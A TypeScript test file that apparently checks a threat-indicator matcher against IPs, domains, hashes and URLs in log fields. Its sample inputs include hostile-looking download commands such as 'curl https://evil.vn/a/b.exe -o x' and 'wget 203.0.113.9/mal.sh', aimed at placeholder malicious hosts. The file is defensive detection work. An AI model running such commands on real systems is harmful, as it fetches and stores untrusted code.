import { describe, expect, it } from 'vitest';
import { createBook } from '../../src/indicators/book.ts';
import { readCsv } from '../../src/indicators/csv.ts';
import { defaultIndicatorLimits } from '../../src/indicators/limits.ts';
import { matcherOf } from '../../src/indicators/rule-facts.ts';
import type { Fields } from '../../src/model/event.ts';
import type { IndicatorList } from '../../src/model/indicator.ts';

function listNamed(id: string): IndicatorList {
  return {
    id,
    name: id,
    description: '',
    source: 'NCSC',
    severity: 'high',
    tags: [],
    historyDays: 30,
    feed: null,
    retired: false,
    revision: 1,
    count: 0,
  };
}

function bookOf(...csvs: readonly string[]) {
  return createBook(
    csvs.map((csv, i) => {
      const { indicators, notTaken } = readCsv(csv, defaultIndicatorLimits);
      if (notTaken.length > 0) throw new Error(JSON.stringify(notTaken));
      return { list: listNamed(`l${i}`), indicators };
    }),
  );
}

const seen = (csv: string, fields: Fields): string[] =>
  matcherOf(bookOf(csv))
    .explain(0, { fields })
    .map(({ field, value, spans }) => `${field}: ${spans.map(([at, n]) => value.slice(at, at + n)).join(' ')}`);

const md5 = '44d88612fea8a8f36de82e1278abb02f';
const sha256 = '275a021bbfb6489e54d471899f7d9ee94b7a40c2b7fac44f7e5a5e7a8f24b3f1';

describe('an indicator is seen', () => {
  it.each<[string, string, string, string]>([
    ['an address by itself', '203.0.113.9', '203.0.113.9', '203.0.113.9'],
    ['with a port', '203.0.113.9', 'conn 203.0.113.9:443 ok', '203.0.113.9'],
    ['in brackets and commas', '203.0.113.9', '[203.0.113.9],x', '203.0.113.9'],
    ['joined by a dash', '203.0.113.9', '198.51.100.1-203.0.113.9', '203.0.113.9'],
    ['at the end of a sentence', '203.0.113.9', 'from 203.0.113.9.', '203.0.113.9'],
    ['mapped into IPv6', '203.0.113.9', '::ffff:203.0.113.9', '203.0.113.9'],
    ['an address between curly quotes', '203.0.113.9', 'IP “203.0.113.9”', '203.0.113.9'],
    ['an address before a dash and words', '203.0.113.9', '203.0.113.9-chặn', '203.0.113.9'],
    ['in a network', '203.0.113.0/26', 'a 203.0.113.63 b 203.0.113.64', '203.0.113.63'],
    ['IPv6 in any spelling', '2405:4800::1f', 'x 2405:4800:0:0:0:0:0:001F y', '2405:4800:0:0:0:0:0:001F'],
    ['IPv6 in brackets', '2405:4800::1f', '[2405:4800::1f]:443', '2405:4800::1f'],
    ['an IPv6 network', '2405:4800::/33', '2405:4800:7fff::1 2405:4800:8000::1', '2405:4800:7fff::1'],
    ['a domain', 'evil.vn', 'GET http://EVIL.vn/x', 'EVIL.vn'],
    ['below a domain', 'evil.vn', 'a.b.evil.vn.', 'a.b.evil.vn'],
    ['in an address of e-mail', 'evil.vn', 'to=<x@evil.vn>', 'evil.vn'],
    ['a name of other letters', 'độchại.vn', 'vào ĐỘCHẠI.VN hôm qua', 'ĐỘCHẠI.VN'],
    ['the same in its ASCII form', 'độchại.vn', 'q=xn--chi-uqa6598asja.vn', 'xn--chi-uqa6598asja.vn'],
    ['between curly quotes', 'evil.vn', '“evil.vn”', 'evil.vn'],
    ['MD5', md5, `MD5=${md5.toUpperCase()},SHA256=${sha256}`, md5.toUpperCase()],
    ['SHA-256 behind others', sha256, `MD5=${md5},SHA256=${sha256},IMPHASH=${md5}`, sha256],
    ['a URL', 'hxxp://evil[.]vn/a/b.exe', 'curl https://evil.vn/a/b.exe -o x', 'evil.vn/a/b.exe'],
    ['a URL with a query behind', 'http://evil.vn/a', 'http://evil.vn/a?x=1', 'evil.vn/a'],
    ['a URL on an address', 'http://203.0.113.9/mal.sh', 'wget 203.0.113.9/mal.sh', '203.0.113.9/mal.sh'],
    ['a URL with a port', 'http://203.0.113.9:8080/i', 'http://203.0.113.9:8080/i', '203.0.113.9:8080/i'],
    ['the front page of a host', 'http://evil-host.vn/', 'http://evil-host.vn', 'evil-host.vn'],
    ['a page on a service everybody uses', 'https://t.me/evil_bot', 'https://t.me/evil_bot', 't.me/evil_bot'],
  ])('%s', (_, csv, text, found) => {
    expect(seen(csv, { x: text })).toEqual([`x: ${found}`]);
  });

  it.each<[string, string, string]>([
    ['a version number', '1.203.0.113', '1.203.0.113.9 and v1.203.0.113.9'],
    ['a longer address', '203.0.113.9', '203.0.113.90 1203.0.113.9'],
    ['octal to some', '203.0.113.9', '203.0.113.09'],
    ['a name that ends alike', 'evil.vn', 'notevil.vn devil.vn evil.vn.com evilvn'],
    ['a name with one letter more that is no ASCII', 'evil.vn', 'đevil.vn'],
    ['letters that look alike', 'evil.vn', 'evіl.vn'],
    ['a digest inside a longer run', md5, `${md5}0`],
    ['another path', 'http://evil.vn/a', 'http://evil.vn/ab http://evil.vn/b http://evil.vn/'],
    ['another port', 'http://evil.vn/a', 'http://evil.vn:8081/a'],
    ['another case of the path', 'http://evil.vn/A', 'http://evil.vn/a'],
    ['times and hardware addresses', '2405:4800::1f', '12:30:22 aa:bb:cc:dd:ee:ff'],
  ])('not: %s', (_, csv, text) => {
    expect(seen(csv, { x: text })).toEqual([]);
  });

  it('in lists inside a field, and over the fields of an access log', () => {
    expect(seen('evil.vn', { answers: ['a.vn', ['b.evil.vn']], n: 3, z: null })).toEqual(['answers: b.evil.vn']);
    const access = { 'cs-host': 'evil.vn', 'cs-uri-stem': '/a', 'cs-uri-query': 'x=1' };
    expect(seen('http://evil.vn/a?x=1', access)).toEqual(['cs-host: evil.vn']);
    expect(seen('http://evil.vn/b', access)).toEqual([]);
  });

  it('says which list, which indicator and what is known of it', () => {
    const matcher = matcherOf(bookOf('value,comment\nevil.vn,"C2 của nhóm X"', '203.0.113.9', 'evil.vn'));
    const event = { fields: { q: 'www.evil.vn', ip: '203.0.113.8' } };
    expect(matcher.match(event)).toEqual([0, 2]);
    expect(matcher.explain(0, event)).toEqual([
      {
        field: 'q',
        value: 'www.evil.vn',
        selection: 'domain evil.vn — C2 của nhóm X',
        how: 'indicator',
        spans: [[0, 11]],
      },
    ]);
  });

  it('until it expires, by the time of the event', () => {
    const matcher = matcherOf(bookOf('value,valid_until\nevil.vn,2026-11-20T00:00:00Z'));
    const at = (iso: string) => ({ fields: { q: 'evil.vn' }, eventTimeMs: Date.parse(iso) });
    expect(matcher.match(at('2026-11-19T23:59:59Z'))).toEqual([0]);
    expect(matcher.match(at('2026-11-20T00:00:00Z'))).toEqual([]);
    expect(matcher.match({ fields: { q: 'evil.vn' } })).toEqual([0]);
  });
});
